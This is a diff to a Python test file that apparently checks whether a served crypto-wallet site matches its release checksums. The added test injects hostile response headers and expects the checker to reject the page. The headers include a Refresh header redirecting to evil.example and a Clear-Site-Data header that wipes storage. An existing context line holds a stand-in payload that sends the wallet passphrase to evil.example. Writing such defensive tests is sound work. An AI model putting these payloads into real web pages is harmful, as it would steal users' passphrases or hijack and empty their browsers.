@@ -18,6 +18,7 @@ FILES = {"index.html": b"<script src=app.js>", "app.js": b"wallet()", "sw.js": b
 EVIL = b"fetch('https://evil.example/' + passphrase)"
 SUMS = "".join(f"{sha256(data).hexdigest()}  site/{name}\n" for name, data in FILES.items())
 RELEASE = read_release(SUMS + f"{sha256(b'x').hexdigest()}  jamjar.html\n")
+HEADERS: dict[str, str] = {}
 Answer = Callable[[str, Mapping[str, str], int], tuple[int, bytes]]
 
 
@@ -39,6 +40,8 @@ def served(answer: Answer) -> Iterator[str]:
             self.send_response(status)
             if status == 302:
                 self.send_header("Location", "/wallet/elsewhere")
+            for header in HEADERS.items():
+                self.send_header(*header)
             self.send_header("Content-Length", str(len(data)))
             self.end_headers()
             self.wfile.write(data)
@@ -108,3 +111,14 @@ def test_nobody_there() -> None:
 def test_what_is_no_release(text: str) -> None:
     with pytest.raises(InvalidInput, match=r"build it again|make phone-build"):
         read_release(text)
+
+
+@pytest.mark.parametrize(
+    "header", [("Refresh", "0;url=https://evil.example"), ("refresh", "9"), ("Clear-Site-Data", '"storage"')]
+)
+def test_a_header_that_leads_away_or_empties_the_browser(
+    monkeypatch: pytest.MonkeyPatch, header: tuple[str, str]
+) -> None:
+    monkeypatch.setitem(HEADERS, *header)
+    with served(honest) as url, pytest.raises(PageAltered, match=f"header {header[0].lower()}, which"):
+        check_served(url, RELEASE, 1)
